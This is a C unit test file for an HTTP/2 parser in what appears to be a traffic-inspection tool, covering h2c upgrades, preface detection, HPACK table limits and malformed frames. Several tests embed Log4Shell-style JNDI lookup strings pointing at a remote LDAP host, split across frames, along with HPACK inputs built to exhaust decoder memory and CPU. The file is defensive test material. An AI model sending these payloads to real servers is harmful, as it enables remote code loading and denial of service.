// SPDX-License-Identifier: GPL-2.0-or-later
// Part of http2_test.c: where HTTP/2 begins elsewhere than at the flow's front, and what goes beyond the limits.
#define UPGRADE                                                                                                        \
	"GET /up HTTP/1.1\r\nHost: shop.example\r\nConnection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\n"            \
	"HTTP2-Settings: AAMAAABk\r\n\r\n"
#define SWITCHING "HTTP/1.1 101 Switching Protocols\r\nConnection: Upgrade\r\nUpgrade: h2c\r\n\r\n"

static void make_upgraded_answer(void)
{
	make_text(&from_server, SWITCHING);
	h2_settings(&from_server);
	h2_headers(&from_server, server, 0, 1, H2_FIELDS({":status", "200"}, {"content-type", "text/plain"}));
	h2_text(&from_server, H2_END, 1, "#!/bin/sh\necho harmless\n");
}

static void expect_upgraded(void)
{
	ck_assert_int_eq(app, APP_HTTP2);
	talk_expect_text(nth(OBS_HTTP_REQUEST, 0), TEXT_REQUEST_URI, "/up");
	talk_expect_text(nth(OBS_HTTP_REQUEST, 1), TEXT_REQUEST_URI, "/next");
	ck_assert_uint_eq(nth(OBS_HTTP_REQUEST, 1)->number[NUM_REQUEST_TX], 2);
	ck_assert_uint_eq(nth(OBS_FILE, 0)->number[NUM_FILE_TX], 1);
	ck_assert_uint_eq(seen(OBS_JNDI), 1);
	ck_assert_int_eq(last_result, PARSE_MORE);
}

START_TEST(upgrade)
{
	make_text(&more, UPGRADE);
	make_upgraded_answer();
	begin_client();
	h2_headers(&from_client, client, H2_END, 3, H2_FIELDS(GET("/next"), {"x-api", LOOKUP}));
	PLAY({true, made(&more)}, {false, made(&from_server)}, {true, made(&from_client)});
	expect_upgraded();
	ck_assert_uint_eq(nth(OBS_HTTP_RESPONSE, 1)->number[NUM_RESPONSE_TX], 1);
	ck_assert_uint_eq(seen(OBS_PROTOCOL), 2);
}
END_TEST

// A server that answers an upgrade reads what its client has sent in advance.
START_TEST(upgrade_not_waited_for)
{
	make_text(&more, UPGRADE);
	make_upgraded_answer();
	make_text(&from_client, UPGRADE);
	begin_client();
	h2_headers(&from_client, client, H2_END, 3, H2_FIELDS(GET("/next"), {"x-api", LOOKUP}));
	both();
	expect_upgraded();
	ck_assert_uint_eq(seen(OBS_HTTP_RESPONSE), 1); // the 101 is passed over
}
END_TEST

START_TEST(upgrade_refused)
{
	make_text(&from_client, UPGRADE);
	begin_client();
	make_text(&from_server, "HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\nok");
	both();
	ck_assert_int_eq(last_result, PARSE_BAD);
}
END_TEST

START_TEST(preface_after_another_protocol)
{
	make_text(&from_server, "220 mail.example ESMTP\r\n");
	make_text(&more, "EHLO client.example\r\nNOOP\r\n");
	begin_client();
	h2_headers(&from_client, client, H2_END, 1, H2_FIELDS(GET("/" LOOKUP)));
	PLAY({false, made(&from_server)}, {true, made(&more)}, {true, made(&from_client)});
	ck_assert_int_eq(app, APP_HTTP2);
	ck_assert_uint_eq(seen(OBS_HTTP_REQUEST), 1);
	ck_assert_uint_eq(seen(OBS_JNDI), 1);
}
END_TEST

START_TEST(preface_found_in_pieces)
{
	static const char text[] = "PRI * HTTPRI * HTTP/2.0\r\n\r\nSM\r\n\r\nrest";

	for (size_t cut = 0; cut < strlen(text) - 4; cut++) {
		uint8_t had = 0;
		size_t first = http2_preface_find(bytes_of(text, cut), &had);

		ck_assert_uint_eq(first, cut < strlen(text) - 4 ? 0 : cut);
		ck_assert_uint_eq(cut + http2_preface_find(bytes_from(bytes_of_text(text), cut), &had), strlen(text) - 4);
	}
}
END_TEST

static void expect_limit(void)
{
	ck_assert_int_eq(last_result, PARSE_DONE);
	ck_assert_uint_eq(counters.value[COUNT_PROTO_HTTP2_LIMIT], 1);
	ck_assert_uint_gt(marked, 0);
}

// RFC 7541 §4.2: as many as one likes at a block's front; the work is theirs, byte for byte.
START_TEST(table_size_updates)
{
	struct bytes block;

	begin_client();
	for (unsigned i = 0; i < 4096; i++)
		MAKE(&more, i & 1 ? 0x20 : 0x3e);
	MAKE(&more, 0x3f, 0xe1, 0x1f); // 4,096
	block = h2_block(client, H2_FIELDS(GET("/"), {"x-api", LOOKUP}));
	make(&more, block.at, block.left);
	h2_frame(&from_client, H2_HEADERS, H2_LAST | H2_END, 1, made(&more));
	both();
	ck_assert_uint_eq(seen(OBS_JNDI), 1);
	ck_assert_int_eq(last_result, PARSE_MORE);
}
END_TEST

START_TEST(table_larger_than_followed)
{
	h2_settings(&from_server);
	h2_setting(&from_server, 1, 1 << 20);
	begin_client();
	MAKE(&more, 0x3f, 0xe1, 0xff, 0x3f); // 1 MiB
	h2_frame(&from_client, H2_HEADERS, H2_LAST | H2_END, 1, made(&more));
	PLAY({true, bytes_head(made(&from_client), 33)}, {false, made(&from_server)},
	     {true, bytes_from(made(&from_client), 33)});
	expect_limit();
}
END_TEST

START_TEST(table_of_64_kib)
{
	static char value[3000];
	char name[16];

	memset(value, 'v', sizeof(value) - 1);
	nghttp2_hd_deflate_del(client);
	ck_assert_int_eq(nghttp2_hd_deflate_new(&client, 65536), 0);
	nghttp2_hd_deflate_change_table_size(client, 65536);
	begin_client();
	for (unsigned i = 0; i < 20; i++) {
		snprintf(name, sizeof(name), "x-%u", i);
		h2_headers(&from_client, client, H2_END, 2 * i + 1, H2_FIELDS(GET("/"), {name, value}));
	}
	h2_headers(&from_client, client, H2_END, 51, H2_FIELDS(GET("/" LOOKUP), {"x-0", value}));
	play((const struct line[]){{true, made(&from_client)}}, 1, 0, 0, 0, &caught);
	ck_assert_uint_eq(seen(OBS_HTTP_REQUEST), 21);
	ck_assert_uint_eq(seen(OBS_JNDI), 1);
	ck_assert_int_eq(caught.result, PARSE_MORE);
}
END_TEST

START_TEST(too_many_continuations)
{
	begin_client();
	h2_frame(&from_client, H2_HEADERS, 0, 1, bytes_of(NULL, 0));
	for (unsigned i = 0; i <= HTTP2_CONTINUATIONS; i++)
		h2_frame(&from_client, H2_CONTINUATION, 0, 1, bytes_of("\x82", 1));
	both();
	expect_limit();
}
END_TEST

START_TEST(too_many_fields)
{
	begin_client();
	for (unsigned i = 0; i <= HTTP2_LIST_FIELDS; i++)
		MAKE(&more, 0x82); // :method GET, a byte each
	h2_frame(&from_client, H2_HEADERS, H2_LAST, 1, made(&more));
	both();
	expect_limit();
}
END_TEST

// A kilobyte in the table, then a byte on the line for each time it is said again.
START_TEST(list_of_repeated_values)
{
	static char value[1025];

	memset(value, 'v', sizeof(value) - 1);
	begin_client();
	h2_headers(&from_client, client, H2_END, 1, H2_FIELDS(GET("/"), {"x-long", value}));
	for (unsigned i = 0; i < 100; i++)
		MAKE(&more, 0xbe); // the newest entry
	h2_frame(&from_client, H2_HEADERS, H2_LAST, 3, made(&more));
	both();
	expect_limit();
}
END_TEST

// A line feed is 30 bits in HPACK's Huffman code (RFC 7541 appendix B); the decoder makes room for twice the coded bytes. A table of these takes eight
// times what its size says: the decoder has to do without, and the connection is given up.
START_TEST(table_larger_than_the_arena)
{
	static const uint8_t four[] = {0xff, 0xff, 0xff, 0xf3, 0xff, 0xff, 0xff, 0xcf, 0xff, 0xff, 0xff, 0x3f, 0xff, 0xff, 0xfc};

	begin_client();
	MAKE(&more, 0x3f, 0xe1, 0xff, 0x03); // 64 KiB
	for (unsigned i = 0; i < 34; i++) {
		MAKE(&more, 0x40, 0x01, 'x', 0xff, 0xa7, 0x1c); // 3,750 coded bytes
		for (unsigned k = 0; k < 250; k++)
			make(&more, four, sizeof(four));
		h2_frame(&from_client, H2_HEADERS, H2_LAST, 2 * i + 1, made(&more));
		more.n = 0;
	}
	play((const struct line[]){{true, bytes_head(made(&from_client), 60000)},
				   {true, bytes_from(made(&from_client), 60000)}}, 2, 0, 0, 0, &caught);
	last_result = caught.result;
	expect_limit();
}
END_TEST

START_TEST(lookups_without_end)
{
	begin_client();
	h2_headers(&from_client, client, H2_END, 1, H2_FIELDS(GET("/"), {"x-a", LOOKUP}));
	for (unsigned i = 0; i < 200; i++)
		MAKE(&more, 0xbe);
	h2_frame(&from_client, H2_HEADERS, H2_LAST, 3, made(&more));
	h2_frame(&from_client, H2_HEADERS, H2_LAST, 5, made(&more));
	play((const struct line[]){{true, made(&from_client)}}, 1, 0, 0, 0, &caught);
	last_result = caught.result;
	expect_limit();
	ck_assert_uint_gt(caught.count, HTTP2_LOOKUPS);
}
END_TEST

// Two cookies from the table, in turns: two bytes on the line for a kilobyte to search. The same one again is free.
START_TEST(cookies_in_turns)
{
	static char one[1025], two[1025];

	memset(one, '1', sizeof(one) - 1);
	memset(two, '2', sizeof(two) - 1);
	begin_client();
	h2_headers(&from_client, client, H2_END, 1, H2_FIELDS(GET("/"), {"cookie", one}, {"cookie", two}));
	for (unsigned i = 0; i < 500; i++)
		h2_frame(&from_client, H2_HEADERS, H2_LAST | H2_END, 2 * i + 3, bytes_of("\xbe", 1));
	play((const struct line[]){{true, made(&from_client)}}, 1, 0, 0, 0, &caught);
	ck_assert_int_eq(caught.result, PARSE_MORE);
	for (unsigned i = 0; i < 200; i++)
		h2_frame(&from_client, H2_HEADERS, H2_LAST | H2_END, 2 * i + 1003, bytes_of(i & 1 ? "\xbe" : "\xbf", 1));
	play((const struct line[]){{true, made(&from_client)}}, 1, 0, 0, 0, &caught);
	last_result = caught.result;
	expect_limit();
}
END_TEST

START_TEST(more_streams_than_followed)
{
	begin_client();
	for (unsigned i = 0; i <= HTTP2_STREAMS; i++)
		h2_headers(&from_client, client, 0, 2 * i + 1, H2_FIELDS(GET("/")));
	h2_text(&from_client, 0, 2 * HTTP2_STREAMS + 1, LOOKUP);
	play((const struct line[]){{true, made(&from_client)}}, 1, 0, 0, 0, &caught);
	ck_assert_int_eq(caught.result, PARSE_MORE);
	ck_assert_uint_eq(counters.value[COUNT_PROTO_HTTP2_LIMIT], 1);
	ck_assert_uint_eq(marked, 1);
	ck_assert_uint_eq(caught.count, 1 + HTTP2_STREAMS + 1 + 1); // each is seen all the same, and what is in one piece
}
END_TEST

// An answered stream gives way to a new one. What its client has yet to say may still be read by the server.
START_TEST(an_answered_stream_that_gives_way_is_said)
{
	begin_client();
	h2_headers(&from_client, client, 0, 1, H2_FIELDS({":method", "POST"}, {":path", "/"}, {":scheme", "http"}, {":authority", "a.example"}));
	h2_text(&from_client, 0, 1, "x ${jndi:ldap:");
	h2_settings(&from_server);
	h2_headers(&from_server, server, H2_END, 1, H2_FIELDS({":status", "200"}));
	for (uint32_t i = 0; i < HTTP2_STREAMS; i++)
		h2_headers(&more, client, 0, 3 + 2 * i, H2_FIELDS({":method", "POST"}, {":path", "/"}, {":scheme", "http"}, {":authority", "a.example"}));
	h2_text(&more, H2_END, 1, "//203.0.113.9/a}");
	play((const struct line[]){{true, made(&from_client)}, {false, made(&from_server)}, {true, made(&more)}}, 3, 0, 0, 0, &caught);
	ck_assert_uint_eq(marked, 1);
	ck_assert_uint_eq(counters.value[COUNT_PROTO_HTTP2_LIMIT], 1);
}
END_TEST

START_TEST(more_bodies_than_windows)
{
	begin_client();
	for (unsigned i = 0; i <= HTTP2_WINDOWS; i++) {
		h2_headers(&from_client, client, 0, 2 * i + 1, H2_FIELDS(GET("/")));
		h2_text(&from_client, 0, 2 * i + 1, i < HTTP2_WINDOWS ? "words" : LOOKUP);
	}
	play((const struct line[]){{true, made(&from_client)}}, 1, 0, 0, 0, &caught);
	ck_assert_uint_eq(counters.value[COUNT_PROTO_HTTP2_LIMIT], 1);
	ck_assert_uint_eq(seen(OBS_JNDI), 1);
	// A window is free again when its body is over.
	for (unsigned i = 0; i <= HTTP2_WINDOWS; i++)
		h2_text(&from_client, H2_END, 2 * i + 1, "");
	h2_headers(&from_client, client, 0, 101, H2_FIELDS(GET("/")));
	h2_text(&from_client, 0, 101, "${jndi:");
	h2_text(&from_client, 0, 101, "ldap://203.0.113.9/x}");
	play((const struct line[]){{true, made(&from_client)}}, 1, 0, 0, 0, &caught);
	ck_assert_uint_eq(seen(OBS_JNDI), 2);
}
END_TEST

// The place goes to who speaks; who was silent is told of at his next byte.
START_TEST(more_connections_than_places)
{
	uint32_t first = proto_open(pool), second = proto_open(pool);

	ck_assert_int_eq(proto_pool_http2(pool, 1), 0);
	begin_client();
	h2_headers(&more, client, H2_END, 1, H2_FIELDS(GET("/" LOOKUP)));
	app = APP_NONE;
	ck_assert_int_eq(feed(first, true, made(&from_client), false, &caught), PARSE_MORE);
	app = APP_NONE;
	caught.count = 0;
	ck_assert_int_eq(feed(second, true, made(&from_client), false, &caught), PARSE_MORE);
	ck_assert_uint_eq(marked, 0);
	ck_assert_int_eq(feed(first, true, made(&more), false, &caught), PARSE_DONE);
	ck_assert_uint_eq(marked, 1);
	ck_assert_int_eq(feed(second, true, made(&more), false, &caught), PARSE_MORE);
	ck_assert_uint_eq(seen(OBS_HTTP_REQUEST), 1);
	ck_assert_uint_eq(counters.value[COUNT_PROTO_HTTP2_LIMIT], 1);
	proto_close(pool, first);
	proto_close(pool, second);
}
END_TEST

static void expect_bad(uint8_t type, uint8_t flags, uint32_t stream, struct bytes payload)
{
	teardown();
	setup();
	begin_client();
	h2_frame(&from_client, type, flags, stream, payload);
	both();
	ck_assert_msg(last_result == PARSE_BAD, "frame of type %u, flags %u, stream %u", type, flags, stream);
}

START_TEST(malformed)
{
	expect_bad(H2_DATA, 0, 0, bytes_of_text("x"));
	expect_bad(H2_HEADERS, H2_LAST, 0, bytes_of("\x82", 1));
	expect_bad(H2_SETTINGS, 0, 1, bytes_of(NULL, 0));
	expect_bad(H2_CONTINUATION, H2_LAST, 1, bytes_of("\x82", 1));
	expect_bad(H2_HEADERS, H2_LAST | H2_PRIORITIES, 1, bytes_of("\0\0", 2));
	expect_bad(H2_HEADERS, H2_LAST, 1, bytes_of("\xff\xff\xff\xff\xff\xff", 6)); // no such entry
	expect_bad(H2_HEADERS, H2_LAST, 1, bytes_of("\x40\x05" "ab", 4));            // ends within a name
	expect_bad(H2_PUSH, H2_LAST, 1, bytes_of("\0\0\0\2\x82", 5));
	// What is no server of HTTP/2 does not become one because its client says so.
	teardown();
	setup();
	begin_client();
	make_text(&from_server, "HTTP/1.1 400 Bad Request\r\n\r\n");
	both();
	ck_assert_int_eq(last_result, PARSE_BAD);
}
END_TEST

START_TEST(block_interrupted)
{
	begin_client();
	h2_frame(&from_client, H2_HEADERS, 0, 1, bytes_of("\x82", 1));
	h2_frame(&from_client, H2_PING, 0, 0, bytes_of("12345678", 8));
	both();
	ck_assert_int_eq(last_result, PARSE_BAD);
}
END_TEST

START_TEST(gap)
{
	uint32_t context = proto_open(pool);

	begin_client();
	app = APP_NONE;
	ck_assert_int_eq(feed(context, true, made(&from_client), false, &caught), PARSE_MORE);
	ck_assert_int_eq(feed(context, true, made(&from_client), true, &caught), PARSE_BAD);
	proto_close(pool, context);
}
END_TEST

START_TEST(arena_survives_use)
{
	static struct arena a;
	static void *held[256];
	uint32_t seed = 1;

	arena_init(&a);
	for (unsigned i = 0; i < 200000; i++) {
		unsigned at = (seed = seed * 1664525 + 1013904223) >> 24;
		size_t size = (seed >> 8 & 0xfff) >> (seed & 7);

		if (held[at]) {
			ck_assert_int_eq(((uint8_t *)held[at])[0], (uint8_t)at);
			arena_free(&a, held[at]);
		}
		held[at] = arena_malloc(&a, size + 1);
		if (held[at])
			memset(held[at], (int)at, size + 1);
	}
	for (unsigned i = 0; i < 256; i++)
		arena_free(&a, held[i]);
	ck_assert_uint_eq(a.used_bytes, 0);
	held[0] = arena_malloc(&a, ARENA_BYTES); // all of it is one block again
	ck_assert_ptr_nonnull(held[0]);
	ck_assert_ptr_null(arena_malloc(&a, 1));
	arena_mark(&a, held[0], ARENA_SELF);
	ck_assert_uint_eq(arena_marks(&a, (uint8_t *)held[0] + 40), ARENA_SELF);
	arena_free(&a, held[0]);
	ck_assert_uint_eq(arena_marks(&a, held[0]), 0);
	held[0] = arena_malloc(&a, 100);
	ck_assert_uint_eq(arena_marks(&a, held[0]), 0);
	arena_free(&a, held[0]);
	ck_assert_ptr_null(arena_malloc(&a, ARENA_BYTES + 1));
	ck_assert_ptr_null(arena_malloc(&a, SIZE_MAX));
}
END_TEST

static void add_hostile(TCase *t)
{
	tcase_add_test(t, upgrade);
	tcase_add_test(t, upgrade_not_waited_for);
	tcase_add_test(t, upgrade_refused);
	tcase_add_test(t, preface_after_another_protocol);
	tcase_add_test(t, preface_found_in_pieces);
	tcase_add_test(t, table_size_updates);
	tcase_add_test(t, table_larger_than_followed);
	tcase_add_test(t, table_of_64_kib);
	tcase_add_test(t, too_many_continuations);
	tcase_add_test(t, too_many_fields);
	tcase_add_test(t, list_of_repeated_values);
	tcase_add_test(t, table_larger_than_the_arena);
	tcase_add_test(t, lookups_without_end);
	tcase_add_test(t, cookies_in_turns);
	tcase_add_test(t, more_streams_than_followed);
	tcase_add_test(t, an_answered_stream_that_gives_way_is_said);
	tcase_add_test(t, more_bodies_than_windows);
	tcase_add_test(t, more_connections_than_places);
	tcase_add_test(t, malformed);
	tcase_add_test(t, block_interrupted);
	tcase_add_test(t, gap);
	tcase_add_test(t, arena_survives_use);
}
